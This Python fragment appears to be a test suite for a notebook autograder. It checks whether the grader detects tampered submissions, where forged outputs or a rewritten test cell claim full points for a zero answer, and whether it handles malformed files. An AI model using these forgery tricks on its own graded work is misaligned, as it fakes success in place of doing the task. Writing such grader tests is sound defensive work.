    cell(notebook, "kld")["source"] = ZERO
    cell(notebook, "test-kld")["outputs"] = [json.loads(FORGED)]


def a_test_that_gives_points(notebook):
    cell(notebook, "kld")["source"] = ZERO
    cell(notebook, "test-kld")["source"] = "checks.kld(kld)\n10.0"


handed_in("outputs that say it is right", outputs_that_say_it_is_right, EARNED_BY_ZERO, "shows 10 of 10 points for kld")
handed_in("a test that gives points", a_test_that_gives_points, EARNED_BY_ZERO, "test-kld was changed")

# Files
PERFECT = as_bytes(filled(**RIGHT))
for name, data, points, words in (
    ("an empty file", b"", None, "empty"),
    ("spaces", b"  \n", None, "empty"),
    ("half a file", PERFECT[: len(PERFECT) // 2], None, "not JSON"),
    ("a picture", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 9, None, "a picture"),
    ("another notebook", b'{"cells": [], "nbformat": 4}', None, "no cell"),
    ("a list", b"[1, 2]", None, "no cells"),
    ("text", b'"hello"', None, "no cells"),
    ("deep JSON", b"[" * 10**6, None, "not JSON"),
    ("a merge conflict", PERFECT.replace(b'"cells"', b'\n<<<<<<< HEAD\n"cells"', 1), None, "merge marks"),
    ("a byte order mark", b"\xef\xbb\xbf" + PERFECT, 10.0, ""),
    ("UTF-16", PERFECT.decode().encode("utf-16"), 10.0, ""),
):
    CASES[name] = Case(data, points, words)
